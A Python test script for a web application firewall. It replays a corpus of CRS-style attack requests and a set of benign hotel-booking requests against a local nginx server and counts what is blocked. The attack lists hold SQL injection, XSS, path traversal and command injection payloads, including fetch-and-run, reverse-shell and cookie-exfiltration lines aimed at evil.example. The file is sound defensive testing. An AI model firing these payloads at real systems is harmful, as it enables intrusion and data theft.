"""A corpus of attacks in the style of the OWASP Core Rule Set's own regression tests
(one request per test: a raw request line, headers and body, the payload where the
rule looks), written for this project from public payload knowledge, and a corpus of
benign requests shaped like our real traffic.

    python nginx/tests/crs_corpus.py http://127.0.0.1:8080   # replay, print the blocked share per class

Each attack is (class, method, raw target, headers, body). The raw target is sent as
it is written (no re-encoding), as the CRS tests send theirs.
"""

from __future__ import annotations

import json
import socket
import sys
from collections import Counter
from urllib.parse import quote, urlsplit

Request = tuple[str, str, str, dict[str, str], bytes]

BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}


def q(value: str) -> str:
    """URL-encodes a query value the way a browser or a scanner would."""
    return quote(value, safe="")


def _in_places(kind: str, payload: str, name: str = "x") -> list[Request]:
    """One payload in a query argument, a form field, a JSON value and a cookie."""
    return [
        (kind, "GET", f"/?{name}={q(payload)}", {}, b""),
        (kind, "POST", "/", dict(FORM), f"{name}={q(payload)}".encode()),
        (kind, "POST", "/api/search/x", dict(JSON), _json_body(name, payload)),
        (kind, "GET", "/", {"Cookie": f"{name}={q(payload)}"}, b""),
    ]


def _json_body(name: str, value: str) -> bytes:
    return json.dumps({name: value}).encode()


# --- scanners (913) ----------------------------------------------------------------------
SCANNERS: list[Request] = [
    ("scanner", "GET", "/", {"User-Agent": ua}, b"") for ua in (
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Arachni/v1.5.1",
        "w3af.org",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Nessus SOAP",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "gobuster/3.6",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; Acunetix Web Vulnerability Scanner)",
        "Fuzz Faster U Fool v2.1.0",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "commix/v3.9 (https://commixproject.com)",
        "Wfuzz/3.1.0",
        "havij",
        "OpenVAS",
        "Netsparker",
        "jbrofuzz",
    )
] + [
    ("scanner", "GET", "/", {"Acunetix-Product": "WVS/5.0 (Acunetix Web Vulnerability Scanner - NORMAL)"}, b""),
    ("scanner", "GET", "/", {"X-Scan-Memo": "Category=\"Audit\"; Function=\"createStateRequestFromAttackDefinition\""},
     b""),
    ("scanner", "GET", "/nessustest", {}, b""),
    ("scanner", "GET", "/acunetix-wvs-test-for-some-inexistent-file", {}, b""),
    ("scanner", "GET", "/?x=appscan_fingerprint", {}, b""),
]

# --- local file inclusion / path traversal (930) ----------------------------------------
TRAVERSALS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fhosts",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd",
    "%e0%80%ae%e0%80%ae/etc/passwd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "..%u2215..%u2215etc%u2215passwd",
    "%u002e%u002e/%u002e%u002e/etc/passwd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "/%2e%2e/%2e%2e/%2e%2e/boot.ini",
    "..%255c..%255cboot.ini",
    "0x2e0x2e/0x2e0x2e/etc/passwd",
    ".%2e/.%2e/.%2e/etc/shadow",
]
OS_FILES = [
    "/etc/passwd", "/etc/shadow", "/etc/hosts", "/etc/group", "/proc/self/environ", "/proc/self/cmdline",
    "/proc/version", "/var/log/apache2/access.log", "c:\\windows\\win.ini", "c:/boot.ini", "/etc/issue",
    "/home/admin/.bash_history", "/home/user/.ssh/id_rsa", "/etc/mysql/my.cnf", "/usr/local/apache/conf/httpd.conf",
    "WEB-INF/web.xml", "/.htpasswd", "/etc/nginx/nginx.conf", "C:\\inetpub\\wwwroot\\web.config",
]
RESTRICTED_PATHS = [
    "/.git/config", "/.env", "/.htaccess", "/web.config", "/.svn/entries", "/.DS_Store", "/wp-config.php.bak",
    "/.aws/credentials", "/config/database.yml", "/.bash_history", "/.ssh/authorized_keys", "/composer.lock",
    "/backup.sql", "/.idea/workspace.xml", "/phpinfo.php~", "/index.php.old",
]
LFI: list[Request] = (
    [("lfi", "GET", f"/?file={p}", {}, b"") for p in TRAVERSALS]
    + [("lfi", "GET", f"/?page={q(p)}", {}, b"") for p in OS_FILES]
    + [("lfi", "GET", p, {}, b"") for p in RESTRICTED_PATHS]
    + [
        ("lfi", "GET", "/static/../../../etc/passwd", {}, b""),
        ("lfi", "GET", "/static/..%2f..%2f..%2fetc%2fpasswd", {}, b""),
        ("lfi", "GET", "/", {"Referer": "http://x/../../../../etc/passwd"}, b""),
        ("lfi", "GET", "/", {"X-Original-Url": "/../../../etc/passwd"}, b""),
        ("lfi", "POST", "/", dict(FORM), b"file=..%2F..%2F..%2Fetc%2Fpasswd"),
        ("lfi", "POST", "/api/search/x", dict(JSON), b'{"template": "../../../../etc/passwd"}'),
        ("lfi", "GET", "/", {"Cookie": "lang=../../../../etc/passwd"}, b""),
        ("lfi", "GET", "/?file=php://filter/read=convert.base64-encode/resource=/etc/passwd", {}, b""),
        ("lfi", "GET", "/?file=file:///etc/passwd", {}, b""),
        ("lfi", "GET", "/?f=%2fetc%2fpasswd%00.png", {}, b""),
    ]
)

# --- remote command execution (932) ------------------------------------------------------
UNIX_RCE = [
    ";cat /etc/passwd", "|id", "||whoami", "& uname -a", "&& ls -la /", "`id`", "$(id)", "; wget http://evil.example/x",
    "; curl http://evil.example/s.sh | sh", "a;nc -e /bin/sh 203.0.113.5 4444", "; /bin/bash -i", "|/usr/bin/id",
    ";echo${IFS}pwned", "; ping -c 3 127.0.0.1", "%0Aid", "\nid", "$(sleep 5)", "`sleep 5`", ";sleep 5;",
    "x; chmod 777 /tmp/x", "; rm -rf /tmp/x", "1;python -c 'import os;os.system(\"id\")'",
    "1|perl -e 'print 1'", "; nslookup evil.example", "; cat$IFS/etc/passwd", ";c\\at /et\\c/pas\\swd",
    ";/???/c?t /???/p?ss??", "; bash -c 'id'", "${IFS}id", "{cat,/etc/passwd}", "; tail /etc/shadow",
    "|| ps aux", "; uname${IFS}-a", "x=$(whoami)", "; which nc", "; /sbin/ifconfig", "; kill -9 1",
    "; telnet 203.0.113.5 23", "|base64 -d", "; sh -c id", "a && sudo su",
]
WINDOWS_RCE = [
    "& dir c:\\", "| type c:\\windows\\win.ini", "& net user", "& ipconfig /all", "; systeminfo",
    "&& whoami /priv", "| powershell -c Get-Process", "& powershell.exe -enc SQBFAFgA", "& cmd.exe /c dir",
    "& certutil -urlcache -f http://evil.example/x.exe x.exe", "| net localgroup administrators",
    "& tasklist", "& reg query HKLM", "| wmic process list", "&for /f %i in ('dir') do echo %i",
    "& if exist c:\\boot.ini echo yes", "& Invoke-WebRequest http://evil.example", "| IEX(New-Object Net.WebClient)",
    "& start calc.exe", "& net view",
]
RCE: list[Request] = (
    [("rce", "GET", f"/?host=127.0.0.1{q(p)}", {}, b"") for p in UNIX_RCE]
    + [("rce", "GET", f"/?cmd={q(p)}", {}, b"") for p in WINDOWS_RCE]
    + [("rce", "POST", "/", dict(FORM), f"ip=127.0.0.1{q(p)}".encode()) for p in UNIX_RCE[:10]]
    + [("rce", "POST", "/api/search/x", dict(JSON), _json_body("host", "x" + p)) for p in UNIX_RCE[:10]]
    + [("rce", "GET", "/", {"Cookie": f"host=x{q(p)}"}, b"") for p in UNIX_RCE[:6]]
    + [
        ("rce", "GET", "/", {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, b""),
        ("rce", "GET", "/", {"Referer": "() { :;}; echo; /usr/bin/id"}, b""),
        ("rce", "GET", "/", {"X-Forwarded-Host": "$(id)"}, b""),
        ("rce", "GET", "/?x=" + q("() { ignored; }; echo vulnerable"), {}, b""),
        ("rce", "GET", "/?code=" + q("<?php system('id'); ?>"), {}, b""),
        ("rce", "GET", "/?x=" + q("${jndi:ldap://evil.example/a}"), {}, b""),
        ("rce", "GET", "/", {"X-Api-Version": "${jndi:ldap://evil.example/a}"}, b""),
    ]
)

# --- cross-site scripting (941) ----------------------------------------------------------
XSS_PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(document.cookie)", "<div onmouseover=\"alert(1)\">x</div>", "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<style>@import 'javascript:alert(1)';</style>", "<div style=\"width:expression(alert(1))\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<form action=javascript:alert(1)><input type=submit>", "<isindex action=javascript:alert(1) type=image>",
    "<table background=\"javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cimg src=x onerror=alert(1)\\u003e",
    "<scr<script>ipt>alert(1)</script>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "document.cookie",
    "window.location='http://evil.example/?c='+document.cookie", "alert(String.fromCharCode(88,83,83))",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<x onclick=alert(1)>click", "<math><mtext><script>alert(1)</script>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<img src=x:alert(1) onerror=eval(src)>",
    "<applet code=\"javascript:confirm(1)\">", "vbscript:msgbox(1)", "<xss style=\"behavior:url(x.htc)\">",
    "<script>prompt(1)</script>", "<%00script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
XSS: list[Request] = (
    [("xss", "GET", f"/?q={q(p)}", {}, b"") for p in XSS_PAYLOADS]
    + [("xss", "POST", "/", dict(FORM), f"comment={q(p)}".encode()) for p in XSS_PAYLOADS[:12]]
    + [("xss", "POST", "/api/search/x", dict(JSON), _json_body("name", p)) for p in XSS_PAYLOADS[:12]]
    + [("xss", "GET", "/", {"Cookie": f"name={q(p)}"}, b"") for p in XSS_PAYLOADS[:6]]
    + [
        ("xss", "GET", "/", {"Referer": "http://example.com/\"><script>alert(1)</script>"}, b""),
        ("xss", "GET", "/", {"User-Agent": "<script>alert(1)</script>"}, b""),
        ("xss", "GET", "/?" + q("<script>alert(1)</script>") + "=x", {}, b""),
        ("xss", "POST", "/api/search/x", dict(JSON), b'{"name": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'),
    ]
)

# --- SQL injection (942) -----------------------------------------------------------------
SQLI_PAYLOADS = [
    "1' OR '1'='1", "1' OR 1=1--", "' OR ''='", "admin'--", "admin' #", "1 OR 1=1", "1) OR (1=1",
    "1' AND 1=2 UNION SELECT username, password FROM users--", "-1 UNION ALL SELECT NULL,NULL,NULL--",
    "1 UNION SELECT @@version", "1'; DROP TABLE users; --", "1; DELETE FROM users", "'; EXEC xp_cmdshell('dir');--",
    "1' AND SLEEP(5)--", "1 AND BENCHMARK(5000000,MD5(1))", "'; WAITFOR DELAY '0:0:5'--",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
    "1' AND updatexml(1,concat(0x7e,user()),1)--", "1 AND 1=CONVERT(int,(SELECT @@version))",
    "1' ORDER BY 10--", "1' GROUP BY 1,2--", "1' HAVING 1=1--", "1 AND ASCII(SUBSTRING((SELECT password),1,1))>64",
    "' UNION SELECT table_name FROM information_schema.tables--", "1' AND pg_sleep(5)--",
    "1;SELECT pg_sleep(5)", "1' || (SELECT 1 FROM dual) || '", "1' AND '1'='1' /*", "1'/**/OR/**/1=1#",
    "1' oR 1 lIkE 1-- -", "1'%0aOR%0a1=1--", "' OR 'x'='x", "1' OR 'a' IS NOT NULL--", "1 OR 0x50=0x50",
    "1' INTO OUTFILE '/tmp/x'--", "' UNION SELECT LOAD_FILE('/etc/passwd')--", "1 AND @@version LIKE '%5%'",
    "1' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(0x7e,version(),FLOOR(RAND(0)*2))x "
    "FROM information_schema.tables GROUP BY x)--",
    "1 procedure analyse()", "') OR ('1'='1", "'+OR+1=1--", "1' RLIKE (SELECT 1)--", "\" OR \"\"=\"",
    "1 AND 1=1 ORDER BY 1--", "SELECT * FROM users WHERE id=1", "1'; SHUTDOWN--", "' OR 1 IN (SELECT 1)--",
    "1 UNION/*!50000SELECT*/1,2", "1' AND MID(version(),1,1)='5",
    "1' AND sqlite_version()>1--", "1;COPY x FROM PROGRAM 'id'",
]
SQLI: list[Request] = (
    [("sqli", "GET", f"/?id={q(p)}", {}, b"") for p in SQLI_PAYLOADS]
    + [("sqli", "POST", "/", dict(FORM), f"user={q(p)}".encode()) for p in SQLI_PAYLOADS[:12]]
    + [("sqli", "POST", "/api/search/x", dict(JSON), _json_body("id", p)) for p in SQLI_PAYLOADS[:12]]
    + [("sqli", "GET", "/", {"Cookie": f"session={q(p)}"}, b"") for p in SQLI_PAYLOADS[:8]]
    + [
        ("sqli", "GET", "/", {"User-Agent": "Mozilla/5.0' AND SLEEP(5)--"}, b""),
        ("sqli", "GET", "/", {"Referer": "http://x/' UNION SELECT 1,2,3--"}, b""),
        ("sqli", "GET", "/?" + q("1' or '1'='1") + "=1", {}, b""),
        ("sqli", "POST", "/api/search/x", dict(JSON), b'{"id": "1\\u0027 OR \\u00271\\u0027=\\u00271"}'),
    ]
)

# --- the same classes in the path, in parameter names and in policy checks ----------------
ELSEWHERE: list[Request] = [
    ("xss", "GET", "/%3Cscript%3Ealert(1)%3C/script%3E", {"Accept": BROWSER_ACCEPT}, b""),
    ("xss", "GET", "/hotels/%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E", {}, b""),
    ("xss", "GET", "/?%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E=1", {}, b""),
    ("sqli", "GET", "/?id%27%20OR%201%3D1--=1", {}, b""),
    ("sqli", "POST", "/", dict(FORM), b"1%27+UNION+SELECT+password+FROM+users--=x"),
    ("rce", "GET", "/?%3Bcat%20%2Fetc%2Fpasswd=1", {}, b""),
    ("rce", "GET", "/index.php/%24_GET%5Bcmd%5D", {}, b""),
    ("lfi", "GET", "/index.php?page=..%2F..%2F..%2F..%2Fetc%2Fpasswd%00", {"Accept": BROWSER_ACCEPT}, b""),
    ("lfi", "GET", "/backup/site.bak", {}, b""),
    ("lfi", "GET", "/app/settings.config", {}, b""),
    ("lfi", "GET", "/db/dump.sql", {}, b""),
    ("lfi", "GET", "/logs/error.log", {}, b""),
    ("scanner", "GET", "/", {"Proxy": "http://evil.example"}, b""),
    ("scanner", "POST", "/", {"Content-Type": "application/x-evil"}, b"x=1"),
    ("scanner", "GET", "/?jsessionid=abc123", {"Referer": "http://evil.example/page"}, b""),
]

ATTACKS: list[Request] = SCANNERS + LFI + RCE + XSS + SQLI + ELSEWHERE

# --- benign: shaped like our pages, forms and API calls ----------------------------------
B = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
     "Accept": BROWSER_ACCEPT, "Accept-Language": "fr-FR,fr;q=0.9,en;q=0.5"}
BENIGN: list[Request] = [
    ("benign", "GET", "/", dict(B), b""),
    ("benign", "GET", "/hotels?city=Saint-Jean-de-Luz&checkin=2026-12-01&checkout=2026-12-05&guests=2", dict(B), b""),
    ("benign", "GET", "/hotels?city=" + q("Val-d'Isère") + "&guests=1", dict(B), b""),
    ("benign", "GET", "/hotels?q=" + q("saint-jean") + "&city=Paris", dict(B), b""),
    ("benign", "GET", "/api/search/hotels?q=" + q("sea view & breakfast, 2 beds") + "&sort=price", {}, b""),
    ("benign", "GET", "/api/search/hotels?q=" + q("O'Hare airport hotel") + "&page=2", {}, b""),
    ("benign", "GET", "/api/search/hotels?q=" + q("hotel near union square; select 2 rooms"), {}, b""),
    ("benign", "GET", "/api/search/cities?prefix=" + q("Saint-É"), {}, b""),
    ("benign", "POST", "/signup", dict(FORM, **B),
     ("name=" + q("Seán O'Connor-Smith") + "&email=" + q("sean.o'connor+hotels@example.ie")
      + "&password=" + q("C0rrect-Horse!battery#staple$%&") + "&password_confirm="
      + q("C0rrect-Horse!battery#staple$%&")).encode()),
    ("benign", "POST", "/login", dict(FORM, **B),
     ("email=" + q("jane.doe@example.com") + "&password=" + q("p@ss'w0rd\"; --<>|&")).encode()),
    ("benign", "POST", "/api/users/users", dict(JSON),
     b'{"email": "d.o\'neil@example.com", "name": "D\'Arcy O\'Neil", "password": "S3cure!Pass#2026*"}'),
    ("benign", "POST", "/api/reservations/reservations", dict(JSON),
     b'{"hotel_id": "6f1c2a9e-0b3d-4c5e-9a8b-7c6d5e4f3a2b", "checkin": "2026-12-01", "checkout": "2026-12-05", '
     b'"guests": 2, "notes": "We\'ll arrive late (after 11 pm); please keep the room. Thanks!"}'),
    ("benign", "POST", "/api/payments/payments", dict(JSON),
     b'{"reservation_id": "6f1c2a9e-0b3d-4c5e-9a8b-7c6d5e4f3a2b", "card": {"number": "4111 1111 1111 1111", '
     b'"exp_month": 12, "exp_year": 2030, "cvc": "737", "name": "Zo\\u00eb O\'Brien"}}'),
    ("benign", "PATCH", "/api/users/users/me", dict(JSON),
     b'{"name": "Jos\\u00e9 Mar\\u00eda Garc\\u00eda-L\\u00f3pez", "address": "12, rue de l\'\\u00c9glise, '
     b'17400 Saint-Jean-d\'Ang\\u00e9ly"}'),
    ("benign", "POST", "/reservations/6f1c2a9e-0b3d-4c5e-9a8b-7c6d5e4f3a2b/pay", dict(FORM, **B),
     ("holder=" + q("Siobhán Ní Bhriain") + "&card_number=" + q("5555 5555 5555 4444")
      + "&expiry=" + q("12/30") + "&cvc=123").encode()),
    ("benign", "GET", "/static/css/app.min.css?v=1.2.3", dict(B), b""),
    ("benign", "GET", "/reservations?status=confirmed&from=2026-01-01", dict(B), b""),
]


def _raw_request(host: str, port: int, method: str, target: str, headers: dict[str, str], body: bytes) -> int:
    head = [f"{method} {target} HTTP/1.1", f"Host: {host}:{port}"]
    head += [f"{k}: {v}" for k, v in headers.items()]
    if body or method in ("POST", "PUT", "PATCH"):
        head.append(f"Content-Length: {len(body)}")
    head.append("Connection: close")
    data = ("\r\n".join(head) + "\r\n\r\n").encode("utf-8") + body
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(data)
        answer = b""
        while b"\r\n" not in answer:
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
    return int(answer.split(b" ", 2)[1])


def replay(base: str, requests_: list[Request]) -> list[tuple[Request, int]]:
    parts = urlsplit(base)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    return [(r, _raw_request(host, port, r[1], r[2], r[3], r[4])) for r in requests_]


def main(argv: list[str]) -> int:
    base = argv[1] if len(argv) > 1 else "http://127.0.0.1:8080"
    total, blocked = Counter(), Counter()
    for request, status in replay(base, ATTACKS):
        total[request[0]] += 1
        if status in (400, 403, 415):
            blocked[request[0]] += 1
        elif "-v" in argv:
            print(f"passed {status}: {request[0]} {request[1]} {request[2]} {request[3]} {request[4][:80]!r}")
    for kind in total:
        print(f"{kind:8s} {blocked[kind]:4d}/{total[kind]:<4d} blocked")
    print(f"{'all':8s} {sum(blocked.values()):4d}/{sum(total.values()):<4d} blocked")
    false_positives = [(r, s) for r, s in replay(base, BENIGN) if s in (400, 403, 415)]
    for request, status in false_positives:
        print(f"FALSE POSITIVE {status}: {request[1]} {request[2]}")
    print(f"benign   {len(BENIGN) - len(false_positives):4d}/{len(BENIGN):<4d} passed")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
